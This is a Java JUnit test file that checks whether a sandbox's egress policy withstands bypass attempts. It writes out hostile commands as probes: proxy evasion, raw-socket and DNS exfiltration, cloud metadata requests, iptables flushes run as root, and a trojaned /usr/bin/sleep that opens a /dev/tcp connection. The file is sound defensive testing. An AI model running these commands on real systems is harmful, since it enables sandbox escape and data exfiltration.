package dev.sandboxjobs.engine.egress;

import static org.assertj.core.api.Assertions.assertThat;

import dev.sandboxjobs.engine.ExecOptions;
import dev.sandboxjobs.engine.ExecResult;
import dev.sandboxjobs.engine.Sandbox;
import dev.sandboxjobs.engine.SandboxEngine;
import dev.sandboxjobs.engine.SandboxOptions;
import dev.sandboxjobs.engine.testing.RequiresDocker;
import dev.sandboxjobs.engine.testing.TestEngines;
import dev.sandboxjobs.engine.SandboxSnapshot;
import dev.sandboxjobs.engine.SnapshotOptions;
import java.io.IOException;
import java.net.InetAddress;
import java.net.ServerSocket;
import java.net.Socket;
import java.util.concurrent.CopyOnWriteArrayList;
import java.nio.file.Path;
import java.util.List;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/**
 * What untrusted code tries in order to get past the policy: ignoring the proxy variables, raw
 * sockets, DNS, another sandbox, the metadata address, root changing the firewall. Every attempt
 * fails; the allowed host stays reachable through the proxy.
 */
@RequiresDocker
class EgressBypassTest {
    @TempDir static Path dir;
    static SandboxEngine engine;
    static Sandbox attacker;
    static Sandbox rootAttacker;
    static Sandbox victim;
    static String victimAddress;
    static String registryAddress;

    @BeforeAll
    static void start() throws Exception {
        engine = TestEngines.create(dir);
        EgressPolicy policy = EgressPolicy.allow("registry.npmjs.org");
        attacker = engine.getSandbox("attacker", SandboxOptions.builder().egress(policy).build());
        rootAttacker = engine.getSandbox("root-attacker", SandboxOptions.builder().egress(policy).user("root").build());
        victim = engine.getSandbox("victim", SandboxOptions.builder().egress(EgressPolicy.open()).build());
        victim.startProcess("python3 -m http.server 8080 --bind 0.0.0.0");
        victimAddress = victim.exec("hostname -i").stdout().trim();
        registryAddress = InetAddress.getByName("registry.npmjs.org").getHostAddress();
        // the victim's server answers on its own address (so that a refusal below is the firewall's)
        ExecResult self = victim.exec("for i in $(seq 50); do curl -s --noproxy '*' -o /dev/null -w '%{http_code}' http://"
                + victimAddress + ":8080/ && break; sleep 0.2; done");
        assertThat(self.stdout()).contains("200");
    }

    @AfterAll
    static void stop() {
        for (Sandbox s : new Sandbox[] {attacker, rootAttacker, victim}) {
            if (s != null) {
                s.destroy();
            }
        }
        if (engine != null) {
            engine.close();
        }
    }

    @Test
    void theAllowedHostIsReachableThroughTheProxy() {
        ExecResult ok = attacker.exec("curl -sS -m 30 -o /dev/null -w '%{http_code}' https://registry.npmjs.org/is-number");
        assertThat(ok.stdout()).as(ok.stderr()).isEqualTo("200");
    }

    @Test
    void ignoringTheProxyVariablesGetsNoConnection() {
        for (Sandbox s : List.of(attacker, rootAttacker)) {
            ExecResult noProxy = s.exec("NO_PROXY='*' no_proxy='*' curl -sS -m 20 https://registry.npmjs.org/is-number");
            assertThat(noProxy.success()).isFalse();
            assertThat(noProxy.stderr()).containsAnyOf("Could not resolve host", "Failed to connect");
            ExecResult byAddress = s.exec("curl -sS -m 20 --noproxy '*' -k https://" + registryAddress + "/is-number");
            assertThat(byAddress.exitCode()).isEqualTo(7);
            ExecResult unset = s.exec("env -u HTTP_PROXY -u HTTPS_PROXY -u http_proxy -u https_proxy"
                    + " curl -sS -m 20 --resolve registry.npmjs.org:443:" + registryAddress + " https://registry.npmjs.org/");
            assertThat(unset.exitCode()).isEqualTo(7);
        }
    }

    @Test
    void rawSocketsAreRefusedAtOnce() {
        for (Sandbox s : List.of(attacker, rootAttacker)) {
            ExecResult tcp = python(s, "import socket\n"
                    + "for target in [('" + registryAddress + "', 443), ('1.1.1.1', 53), ('8.8.8.8', 443)]:\n"
                    + "    c = socket.socket(); c.settimeout(20)\n"
                    + "    try:\n        c.connect(target); print('CONNECTED', target)\n"
                    + "    except OSError as e:\n        print(type(e).__name__)\n");
            assertThat(tcp.stdout()).doesNotContain("CONNECTED").contains("ConnectionRefusedError");
            ExecResult udp = python(s, "import socket\n"
                    + "u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); u.settimeout(5)\n"
                    + "q = b'\\x12\\x34\\x01\\x00\\x00\\x01\\x00\\x00\\x00\\x00\\x00\\x00\\x07example\\x03com\\x00\\x00\\x01\\x00\\x01'\n"
                    + "try:\n    u.sendto(q, ('8.8.8.8', 53)); print('ANSWER', u.recv(512))\n"
                    + "except OSError as e:\n    print(type(e).__name__)\n");
            assertThat(udp.stdout()).doesNotContain("ANSWER");
        }
    }

    @Test
    void namesDoNotResolveInsideTheSandbox() {
        ExecResult lookup = attacker.exec("getent hosts exfiltrate-this-value.example.com");
        assertThat(lookup.success()).isFalse();
        ExecResult docker = python(attacker, "import socket\n"
                + "u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); u.settimeout(5)\n"
                + "q = b'\\x12\\x34\\x01\\x00\\x00\\x01\\x00\\x00\\x00\\x00\\x00\\x00\\x07example\\x03com\\x00\\x00\\x01\\x00\\x01'\n"
                + "try:\n    u.sendto(q, ('127.0.0.11', 53)); print('ANSWER', u.recv(512))\n"
                + "except OSError as e:\n    print(type(e).__name__)\n");
        assertThat(docker.stdout()).doesNotContain("ANSWER").containsAnyOf("ConnectionRefusedError", "PermissionError");
    }

    @Test
    void anotherSandboxIsUnreachableDirectlyAndThroughTheProxy() {
        String url = "http://" + victimAddress + ":8080/";
        ExecResult raw = attacker.exec("curl -sS -m 20 --noproxy '*' " + url);
        assertThat(raw.exitCode()).isEqualTo(7);
        ExecResult proxied = attacker.exec("curl -sS -m 20 " + url);
        assertThat(proxied.stdout()).contains("Blocked by the sandbox's egress policy").contains(victimAddress);
        // even under open internet, another sandbox is a private address
        ExecResult fromOpen = victim.exec("curl -sS -m 20 http://" + attackerAddress() + ":9/");
        assertThat(fromOpen.stdout()).contains("is private");
    }

    @Test
    void theMetadataAddressIsDeniedInEveryMode() {
        for (Sandbox s : List.of(attacker, victim)) {
            ExecResult r = s.exec("curl -sS -m 20 http://169.254.169.254/latest/meta-data/");
            assertThat(r.stdout()).contains("Blocked by the sandbox's egress policy");
            ExecResult raw = s.exec("curl -sS -m 20 --noproxy '*' http://169.254.169.254/latest/meta-data/");
            assertThat(raw.exitCode()).isEqualTo(7);
        }
        ExecResult open = victim.exec("curl -sS -m 20 http://169.254.169.254/");
        assertThat(open.stdout()).contains("the cloud metadata address");
    }

    @Test
    void rootInsideCannotChangeTheFirewallOrTheNetwork() {
        assertThat(rootAttacker.exec("id -u").stdout().trim()).isEqualTo("0");
        ExecResult flush = rootAttacker.exec("iptables -F OUTPUT; iptables -P OUTPUT ACCEPT; iptables -t nat -F");
        assertThat(flush.stderr()).containsIgnoringCase("permission denied");
        ExecResult route = rootAttacker.exec("ip addr add 10.9.9.9/32 dev eth0 || ip route add 1.1.1.1 dev eth0");
        assertThat(route.success()).isFalse();
        ExecResult raw = rootAttacker.exec("curl -sS -m 20 --noproxy '*' https://" + registryAddress + "/");
        assertThat(raw.exitCode()).isEqualTo(7);
    }

    @Test
    void aRequestForAnotherHostThroughAnAllowedConnectIsRefused() {
        // a Host header naming an allowed host does not help a request sent to another one
        ExecResult r = attacker.exec("curl -sS -m 20 -H 'Host: registry.npmjs.org' http://example.com/");
        assertThat(r.stdout()).contains("example.com:80 denied");
        ExecResult viaIp = attacker.exec("curl -sS -m 20 -o /dev/null -w '%{http_code}' -k https://" + registryAddress + "/");
        assertThat(viaIp.stdout()).isEqualTo("000");
        assertThat(attacker.egressLog()).anySatisfy(e -> {
            assertThat(e.host()).isEqualTo(registryAddress);
            assertThat(e.allowed()).isFalse();
        });
    }

    @Test
    void aConnectionOpenedBeforeTheRulesDiesWithThem() throws Exception {
        // A snapshot made by untrusted root code can replace what the container runs at start (its
        // "sleep"), which runs before the firewall rules are installed; a connection it opens to the host then must
        // not outlive the rules' arrival.
        try (ServerSocket listener = new ServerSocket(0, 50, InetAddress.getByName("0.0.0.0"))) {
            List<String> received = new CopyOnWriteArrayList<>();
            Thread reader = new Thread(() -> {
                try {
                    while (!listener.isClosed()) {
                        Socket s = listener.accept();
                        Thread t = new Thread(() -> readLines(s, received));
                        t.setDaemon(true);
                        t.start();
                    }
                } catch (IOException closed) {
                    // the test is over
                }
            });
            reader.setDaemon(true);
            reader.start();
            Sandbox maker = engine.getSandbox("trojan-maker", SandboxOptions.builder().egress(EgressPolicy.none()).user("root").build());
            SandboxSnapshot trojan;
            try {
                ExecResult plant = maker.exec("mv /usr/bin/sleep /usr/bin/sleep.real && printf '%s\\n' '#!/bin/bash'"
                        + " 'gw=${HTTP_PROXY#*//}; gw=${gw%%:*}'"
                        + " '( exec 3<>/dev/tcp/$gw/" + listener.getLocalPort() + " && echo early >&3 && /usr/bin/sleep.real 3"
                        + " && echo late >&3 ) </dev/null >/dev/null 2>&1 &'"
                        + " 'exec /usr/bin/sleep.real \"$@\"' > /usr/bin/sleep && chmod 755 /usr/bin/sleep");
                assertThat(plant.success()).as(plant.stderr()).isTrue();
                trojan = maker.snapshot(SnapshotOptions.named("trojan"));
            } finally {
                maker.destroy();
            }
            Sandbox victimOfTheSnapshot = engine.getSandbox("trojan-run", SandboxOptions.builder().fromSnapshot(trojan).build());
            try {
                Thread.sleep(6000);
                assertThat(received).as("what the code run before the rules sent to the host").doesNotContain("late");
            } finally {
                victimOfTheSnapshot.destroy();
                engine.deleteSnapshot(trojan.id());
            }
        }
    }

    private static void readLines(Socket s, List<String> into) {
        try (s; var in = new java.io.BufferedReader(new java.io.InputStreamReader(s.getInputStream(), java.nio.charset.StandardCharsets.UTF_8))) {
            for (String line; (line = in.readLine()) != null; ) {
                into.add(line);
            }
        } catch (IOException reset) {
            into.add("reset");
        }
    }

    private static String attackerAddress() {
        return attacker.exec("hostname -i").stdout().trim();
    }

    private static ExecResult python(Sandbox s, String code) {
        return s.exec(List.of("python3", "-c", code), ExecOptions.builder().build());
    }
}
